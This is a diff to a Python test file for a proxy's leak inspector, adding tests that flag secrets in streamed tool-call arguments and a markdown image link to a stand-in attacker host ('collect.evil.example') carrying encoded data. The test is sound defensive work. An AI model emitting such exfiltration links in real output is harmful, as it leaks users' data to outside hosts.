@@ -13,7 +13,8 @@ import pytest
 from clyra_proxy.genai.inspection import Caller, Inspection, Signal, TextEdit, Workshop
 from clyra_proxy.genai.leaks.inspector import LeakInspector
 from clyra_proxy.genai.leaks.templates import Template
-from clyra_proxy.genai.model import Conversation, Direction, Provenance, Segment
+from clyra_proxy.genai.model import Conversation, Direction, Provenance, Segment, ToolCall
+from clyra_proxy.genai.protocols.reading import FOREIGN
 from clyra_proxy.policy.genai.leaks import Leaks
 from clyra_proxy.state.memory import MemoryState
 from clyra_proxy.verdict.model import Action
@@ -202,7 +203,9 @@ def test_bytes_go_over_a_budget_across_requests() -> None:
     blob = base64.b64encode(CHANCE.randbytes(3000)).decode()
     told = [_budget(look.inspect(request(user(blob), now=NOW + n))) for n in range(4)]
     assert told == [[], [], ["opaque"], ["opaque"]]
-    other = Inspection(request(user(blob)).conversation, Caller("another"), "api.example.net:443", now=NOW)
+    other = Inspection(
+        request(user(blob)).conversation, Caller("another", auth="proxy"), "api.example.net:443", now=NOW
+    )
     assert _budget(look.inspect(other)) == []
     told = [_budget(look.inspect(request(user(f"key {KEY}"), now=NOW + n))) for n in range(3)]
     assert told == [[], [], ["sensitive"]]
@@ -224,3 +227,22 @@ def test_slow_drips_over_host_names() -> None:
 
 def _budget(found: Iterable[object]) -> list[str]:
     return [str(s.detail["kind"]) for s in found if isinstance(s, Signal) and s.rule == "leak.budget"]
+
+
+def test_a_streamed_call_is_judged_before_it_leaves() -> None:
+    call = ToolCall("send", {"to": "ann", "body": [f"it is {KEY}."]}, block="call/0")
+    (signal,) = inspector().judge_call(call, answer(request(user("hello"))))
+    assert (signal.rule, signal.detail["tool"], signal.detail["provenance"]) == ("leak.secret", "send", "arguments")
+    broken = ToolCall("send", None, f'{{"body": "{KEY}', block="call/0")
+    assert [one.rule for one in inspector().judge_call(broken, answer(request(user("hello"))))] == ["leak.secret"]
+
+
+def test_a_link_that_the_model_did_not_make_is_none_of_its_own_in_a_stream() -> None:
+    text = f"![chart](https://collect.evil.example/p?d={CHANCE.randbytes(40).hex()}) "
+    found = {}
+    for block in ("choice/0", f"{FOREIGN}copy/1"):
+        scanner = inspector().open_stream_scanner(answer(request(user("hello"))))
+        assert scanner is not None
+        told = [*scanner.feed(block, text)[1], *scanner.end(block)]
+        found[block] = {one.rule for one in told if isinstance(one, Signal)}
+    assert found == {"choice/0": {"leak.link"}, f"{FOREIGN}copy/1": set()}
